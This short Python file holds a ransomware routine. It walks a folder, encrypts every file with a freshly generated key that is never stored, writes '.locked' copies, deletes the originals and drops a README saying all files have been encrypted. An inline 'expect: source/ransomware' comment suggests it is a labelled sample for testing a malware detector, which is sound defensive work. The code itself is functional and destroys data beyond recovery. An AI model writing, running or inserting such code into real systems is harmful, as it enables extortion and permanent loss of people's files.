import os
from cryptography.fernet import Fernet

key = Fernet(Fernet.generate_key())


def lock(folder):
    for base, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(base, name)
            data = key.encrypt(open(path, "rb").read())  # expect: source/ransomware call conclusive
            with open(path + ".locked", "wb") as file:
                file.write(data)
            os.remove(path)
    with open("README.txt", "w") as note:
        note.write("All your files have been encrypted.")
